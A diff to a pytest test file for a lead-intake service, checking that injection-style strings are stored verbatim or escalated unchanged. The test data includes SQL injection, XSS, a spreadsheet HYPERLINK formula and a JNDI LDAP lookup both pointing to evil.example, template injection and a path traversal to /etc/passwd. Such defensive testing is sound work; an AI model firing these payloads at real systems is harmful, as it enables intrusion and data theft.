@@ -164,22 +164,41 @@ def test_a_name_of_any_script_is_kept_as_it_is(application, a_lead, first_name, 
     assert (kept["first_name"], kept["last_name"]) == (first_name, last_name)
 
 
+@pytest.fixture
+def kept_as(application, lead_when):
+    """Sends a lead and gives it as it is kept, when it has come to a status."""
+
+    def send(lead, status):
+        return lead_when(application.post(LEADS, lead).json()["lead_id"], status)
+
+    return send
+
+
 @pytest.mark.parametrize(
     "text",
     [
         "'; DROP TABLE leads; --",
         "<script>alert(1)</script><img src=x onerror=alert(1)>",
         '=HYPERLINK("http://evil.example";"Click")',
+    ],
+)
+def test_text_that_means_something_elsewhere_is_only_data_here(kept_as, a_lead, done_once, text):
+    kept = kept_as(a_lead(message=text, company=text[:60], attributes={"note": text}), "processed")
+
+    details = kept["details"]
+    assert (details["message"], details["company"]) == (text, text[:60])
+    assert details["attributes"] == {"note": text}
+    done_once(kept["lead_id"])
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
         "{{7*7}} ${jndi:ldap://evil.example/a} {% $states.input %}",
         "../../etc/passwd %00 %n",
     ],
 )
-def test_text_that_means_something_elsewhere_is_only_data_here(processed, a_lead, done_once, text):
-    lead = a_lead(message=text, company=text[:60], attributes={"note": text})
+def test_text_that_is_hardly_a_customers_waits_for_a_person_as_it_came(kept_as, a_lead, text):
+    kept = kept_as(a_lead(message=text, company=text[:60]), "escalated")
 
-    kept = processed(lead)
-
-    details = kept["details"]
-    assert (details["message"], details["company"]) == (text, lead["company"])
-    assert details["attributes"] == {"note": text}
-    done_once(kept["lead_id"])
+    assert (kept["details"]["message"], kept["details"]["company"]) == (text, text[:60])
